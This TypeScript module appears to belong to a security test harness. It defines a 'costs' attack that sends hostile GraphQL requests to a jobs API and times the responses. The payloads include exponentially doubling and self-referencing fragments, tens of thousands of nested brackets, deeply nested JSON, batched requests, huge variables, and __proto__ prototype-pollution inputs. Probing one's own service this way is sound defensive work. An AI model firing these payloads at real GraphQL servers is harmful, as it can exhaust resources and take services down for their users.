import type { Attack } from '../attack.ts';

/** 30 fragments, each of which spreads the next one twice: 2^30 fields if they were written out. */
function doublingFragments(): string {
  const fragments = Array.from({ length: 30 }, (_, n) => `fragment F${n} on Job { id ...F${n + 1} ...F${n + 1} }`);
  return `{ jobs(first: 1) { nodes { ...F0 } } } ${fragments.join(' ')} fragment F30 on Job { title }`;
}

function overlappingFragments(): string {
  const names = Array.from({ length: 110 }, (_, n) => `F${n}`);
  const fragments = names.map((name) => `fragment ${name} on Job { id title location }`);
  return `{ jobs(first: 1) { nodes { ${names.map((name) => `...${name}`).join(' ')} } } } ${fragments.join(' ')}`;
}

const repeated = (field: string, times: number) => `${field} `.repeat(times);
const pages = Array.from({ length: 15 }, (_, n) => `a${n}: jobs(first: 100) { nodes { id } }`).join(' ');

const bodies: readonly (readonly [string, string])[] = [
  [
    'a variable named __proto__',
    '{"query":"query ($__proto__: Int) { jobs(first: $__proto__) { nodes { id } } }","variables":{"__proto__":100}}',
  ],
  [
    'variables with a prototype',
    '{"query":"query ($n: Int) { jobs(first: $n) { nodes { id } } }","variables":{"__proto__":{"n":100}}}',
  ],
  [
    'a filter named __proto__',
    '{"query":"query ($f: JobFilter) { jobs(filter: $f) { totalCount } }","variables":{"f":{"__proto__":{"search":"nurse"}}}}',
  ],
  [
    'null instead of a number',
    '{"query":"query ($n: Int = 1) { jobs(first: $n) { nodes { id } } }","variables":{"n":null}}',
  ],
  ['no value for a number', '{"query":"query ($n: Int) { jobs(first: $n) { nodes { id } } }","variables":{}}'],
  ['a number as a text', '{"query":"query ($n: Int) { jobs(first: $n) { nodes { id } } }","variables":{"n":"1e9"}}'],
  ['a price that is none', '{"query":"query ($n: Int) { jobs(first: $n) { nodes { id } } }","variables":{"n":-1e308}}'],
  ['30 fragments that double', JSON.stringify({ query: doublingFragments() })],
  ['110 overlapping fragments', JSON.stringify({ query: overlappingFragments() })],
  ['900 times one field', JSON.stringify({ query: `{ jobs(first: 1) { nodes { ${repeated('id', 900)} } } }` })],
  ['900 times one root field', JSON.stringify({ query: `{ ${repeated('__typename', 900)} }` })],
  ['15 lists of 100', JSON.stringify({ query: `{ ${pages} }` })],
  ['30,000 brackets', JSON.stringify({ query: '{'.repeat(30_000) })],
  ['30,000 brackets in a list', JSON.stringify({ query: `{ jobs(filter: ${'['.repeat(30_000)}) { totalCount } }` })],
  [
    'a fragment of itself',
    JSON.stringify({ query: '{ jobs(first: 1) { nodes { ...F } } } fragment F on Job { id ...F }' }),
  ],
  ['900 directives', JSON.stringify({ query: `{ __typename ${repeated('@skip(if: false)', 900)} }` })],
  ['an array of requests', JSON.stringify(Array.from({ length: 100 }, () => ({ query: '{ __typename }' })))],
  ['deep JSON', `{"query":"{ __typename }","variables":{"a":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`],
  ['900 kB of one variable', JSON.stringify({ query: '{ __typename }', variables: { a: 'x'.repeat(900_000) } })],
];

/** Documents whose cost is hard to see, five times each. */
export const costs: Attack = {
  name: 'costs',
  run: async (target) => {
    const took: string[] = [];
    for (const [name, body] of bodies) {
      const answers = [];
      for (let time = 0; time < 5; time += 1) {
        answers.push(await target.send({ method: 'POST', path: '/graphql', body }));
      }
      const longest = Math.max(...answers.map(({ milliseconds }) => milliseconds));
      took.push(`${name} ${Math.round(longest)} ms (${answers.at(-1)?.status})`);
    }
    target.notes.push(took.join(', '));
    return [];
  },
};
